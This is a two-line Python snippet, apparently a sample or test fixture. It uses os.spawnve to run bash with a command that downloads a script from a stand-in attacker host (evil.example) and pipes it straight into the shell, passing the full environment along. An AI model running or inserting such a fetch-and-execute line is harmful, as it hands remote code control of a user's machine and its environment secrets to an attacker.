import os
os.spawnve(os.P_WAIT, '/bin/bash', ['bash', '-c', 'curl -fsSL https://evil.example/i | bash'], dict(os.environ))
